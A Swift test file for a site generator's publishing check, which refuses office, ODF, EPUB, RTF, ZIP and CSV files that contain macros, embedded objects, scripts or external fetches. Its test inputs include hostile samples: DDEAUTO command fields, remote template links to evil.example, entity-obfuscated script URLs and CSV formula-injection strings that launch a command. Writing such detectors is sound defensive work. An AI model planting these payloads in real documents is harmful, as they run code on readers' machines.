import Foundation
import HoofbeatContent
import HoofbeatPipeline
import HoofbeatTestSupport
import Testing

private typealias Part = ArchiveBytes.Entry

/// Documents are published if nothing in them runs, and if they fetch nothing.
@Suite("A document") struct RunningDocumentTests {
    private func codes(_ path: String, _ bytes: [UInt8], publish: String = "") throws -> [String] {
        let site = try TestSite([
            "content/site.yaml": "name: N\ndescription: D\n" + publish
        ])
        try site.write("content/static/" + path, bytes: bytes)
        return try site.problems()
    }

    private func expectRuns(
        _ path: String, _ bytes: [UInt8], at place: SourceLocation = #_sourceLocation
    ) throws {
        #expect(
            try codes(path, bytes) == ["file-that-runs content/static/\(path)"],
            sourceLocation: place)
    }

    @Test("of Word, Excel or PowerPoint may have pictures, links and tables behind charts")
    func office() throws {
        let table = ArchiveBytes.office("xl/workbook.xml")
        let word = ArchiveBytes.word([
            Part("word/media/image1.png", "x"), Part("docProps/thumbnail.emf", "x"),
            ArchiveBytes.relationship("hyperlink", to: "https://example.org/"),
            Part("word/embeddings/table.xlsx", bytes: table),
            Part("word/styles.xml", "\u{FEFF}<?xml version='1.0' encoding='UTF-8'?><x/>"),
        ])
        #expect(try codes("a.docx", word) == [])
        #expect(try codes("a.xlsx", table) == [])
        let printer = Part("xl/printerSettings/printerSettings1.bin", "x")
        #expect(try codes("a.xlsx", ArchiveBytes.office("xl/workbook.xml", [printer])) == [])
        #expect(try codes("a.pptx", ArchiveBytes.office("ppt/presentation.xml")) == [])
    }

    @Test(
        "of an office program has no macros, programs and objects, whatever their names",
        arguments: [
            "word/VBAPROJECT.BIN", "word/vbaData.xml", "word/a.exe", "word/embeddings/o.bin",
            "word/activeX/activeX1.xml", "customUI/customUI.xml", "word/media/x", "x.js",
            "word/webextensions/taskpanes.xml", "word/evil.html", "xl/macrosheets/sheet1.xml",
            "xl/externalLinks/externalLink1.xml", "xl/connections.xml",
        ])
    func officePart(name: String) throws {
        try expectRuns("a.docx", ArchiveBytes.word([Part(name, "<x/>")]))
    }

    @Test("of an office program names no type of part and no relationship that runs or fetches")
    func officeTypes() throws {
        for type in ["ms-word.document.macroEnabled.main+xml", "m&#97;croEnabled", "x.VBAproject"] {
            let types = ArchiveBytes.types.replacing("application/x+xml", with: type)
            try expectRuns("a.docx", ArchiveBytes.word(types: types))
        }
        for (type, mode) in [
            ("attachedTemplate", "External"), ("attachedTemplate", "&#69;xternal"),
            ("image", "external"), ("oleObject", "Internal"), ("aFChunk", "Internal"),
            ("vbaProject", "Internal"), ("frame", "External"),
        ] {
            let part = ArchiveBytes.relationship(type, to: "https://evil.example/x", mode: mode)
            try expectRuns("a.docx", ArchiveBytes.word([part]))
        }
        let utf16 = "<Types/>".utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }
        let types = String(decoding: utf16, as: UTF8.self)
        try expectRuns("a.docx", ArchiveBytes.word(types: types))
    }

    @Test("in a document, or packed, is looked into as well")
    func officeInside() throws {
        let inner = ArchiveBytes.office("xl/workbook.xml", [Part("xl/activeX/a.xml", "<x/>")])
        let embedded = Part("word/embeddings/a.xlsx", bytes: inner)
        try expectRuns("a.docx", ArchiveBytes.word([embedded]))
        let packed = try #require(
            Data(
                base64Encoded:
                    "sym3SslPLs1NzStRqMjNySu2KrdVKleysym3yswrLikKSa0osUtJsdFH5qNIpiaWluQr"
                    + "VChUoqnRR5hsBwA="))
        let field = Part("word/header1.xml", packed: Array(packed), size: 102)
        try expectRuns("a.docx", ArchiveBytes.word([field]))
        let cut = Part("word/header1.xml", packed: Array(packed.dropLast(9)), size: 102)
        try expectRuns("a.docx", ArchiveBytes.word([cut]))
        let large = Part("word/header1.xml", packed: Array(packed), size: 200_000_000)
        try expectRuns("a.docx", ArchiveBytes.word([large]))
    }

    @Test("of PowerPoint starts no program")
    func slides() throws {
        let slide = Part("ppt/slides/slide1.xml", "<x><h action='ppaction://program?x'/></x>")
        try expectRuns("a.pptx", ArchiveBytes.office("ppt/presentation.xml", [slide]))
        let next = Part("ppt/slides/slide1.xml", "<x><h action='ppaction://hlinkshowjump'/></x>")
        #expect(try codes("a.pptx", ArchiveBytes.office("ppt/presentation.xml", [next])) == [])
    }

    @Test("that is locked, or that programs read in two ways, is refused")
    func ambiguous() throws {
        try expectRuns("a.odt", ArchiveBytes.of([Part("mimetype", Self.text)], flags: 1))
        var bytes = ArchiveBytes.open("text")
        try expectRuns("a.odt", bytes + [0])
        // The directory says another name than what stands before the data.
        let place = try #require(bytes.firstRange(of: Array("content.xml".utf8)))
        bytes[place.lowerBound] = UInt8(ascii: "k")
        try expectRuns("a.odt", bytes)
        let doubled = ArchiveBytes.open("text", [Part("CONTENT.xml", "<x/>")])
        try expectRuns("a.odt", doubled)
    }

    private static let text = "application/vnd.oasis.opendocument.text"

    @Test("of LibreOffice has no macros, programs, or parts that it fetches")
    func openDocument() throws {
        let innocent = ArchiveBytes.open(
            "text",
            [
                Part("Pictures/1.png", "x"), Part("layout-cache", "x"),
                Part("Object 1/content.xml", "<x/>"), Part("ObjectReplacements/Object 1", "x"),
                Part("Configurations2/accelerator/current.xml", ""),
                Part("meta.xml", "<x xmlns:l='l'><template l:href='../t.ott'/></x>"),
            ], content: "<x xmlns:l='l'><a l:href='https://example.org/'/></x>")
        #expect(try codes("a.odt", innocent) == [])
        for name in [
            "Basic/Standard/M.xml", "Scripts/python/x.py", "scripts/x", "Object 1", "a.exe",
        ] {
            try expectRuns("a.ods", ArchiveBytes.open("spreadsheet", [Part(name, "<x/>")]))
        }
        for content in [
            "<e href='vnd.sun.star.script:x'/>", "<e href='vnd.sun.star.&#115;cript:x'/>",
            "<image href='https://evil.example/'/>", "<template href='//evil/x.ott'/>",
            "<dde-source/>", "<!DOCTYPE x><x/>", "<applet/>", "no XML",
        ] {
            try expectRuns("a.odp", ArchiveBytes.open("presentation", content: content))
        }
    }

    @Test("that is a book has pages without scripts, and fetches nothing")
    func book() throws {
        let page = "<!DOCTYPE html><html><body><a href='https://example.org/'>x</a></body></html>"
        #expect(try codes("a.epub", ArchiveBytes.book([Part("a.xhtml", page)])) == [])
        try expectRuns("a.epub", ArchiveBytes.book([Part("x.js", "alert(1)")]))
        for inside in [
            "<script>x</script>", "<SCRIPT/>", "<p onclick='x'/>", "<iframe/>",
            "<a href='java&#10;script:x'/>", "<img src='https://evil.example/'/>", "<p>",
        ] {
            let part = Part("a.xhtml", "<html>\(inside)</html>")
            try expectRuns("a.epub", ArchiveBytes.book([part]))
        }
        let entity = "<!DOCTYPE html [<!ENTITY e '<script/>'>]><html>&e;</html>"
        try expectRuns("a.epub", ArchiveBytes.book([Part("a.xhtml", entity)]))
    }

    @Test(
        "in RTF embeds nothing and fetches nothing",
        arguments: [
            "{\\object\\objemb{\\*\\objdata 0105}}", "{\\*\\objdata 01}", "\\\\\\objocx",
            "{\\*\\template https://evil.example/x.dotm}",
            "{\\field{\\*\\fldinst{\\rtlch DDEAUTO cmd x}}}", "{\\fldinst dde x}",
        ])
    func rich(inside: String) throws {
        try expectRuns("a.rtf", Array("{\\rtf1 \(inside)}".utf8))
    }

    @Test("in RTF may show a backslash, and links")
    func plainRich() throws {
        let text = "{\\rtf1 \\\\objdata {\\field{\\*\\fldinst HYPERLINK \"x\"}{\\fldrslt x}}}"
        #expect(try codes("a.rtf", Array(text.utf8)) == [])
    }

    @Test("in an archive that a setting allows must not run either")
    func archive() throws {
        let setting = "publish: [zip]\n"
        let good = ArchiveBytes.of([Part("a.txt", "x")])
        #expect(try codes("a.zip", good, publish: setting) == [])
        for name in ["a.exe", "x/B.JS", "a.docm"] {
            let found = try codes("a.zip", ArchiveBytes.of([Part(name, "x")]), publish: setting)
            #expect(found == ["file-that-runs content/static/a.zip"])
        }
    }

    @Test(
        "that is a table has no formulas",
        arguments: [
            "a\n=HYPERLINK(\"https://evil.example\")", "=1+1", "a,b\n1,\"=cmd|' /C calc'!A0\"",
            "a;=x", "a\t =x", "a\n-2+3+cmd|' /C calc'!A0", "+SUM(A1)", "@SUM(A1)",
        ])
    func formulas(text: String) throws {
        let line = text.split(separator: "\n").count
        #expect(
            try codes("a.csv", Array(text.utf8)) == [
                "file-that-runs content/static/a.csv:\(line)"
            ])
    }

    @Test("that is a table has numbers, telephone numbers, lists and names")
    func values() throws {
        let text = """
            \u{FEFF}date,value,"notes"
            2026-01-01,-5.2,+44 (0)20 7946
            x = y,-,- tablet(s)
            "-5 (low)",@charity,"a ""quoted"" = b"
            """
        #expect(try codes("a.csv", Array(text.utf8)) == [])
    }
}
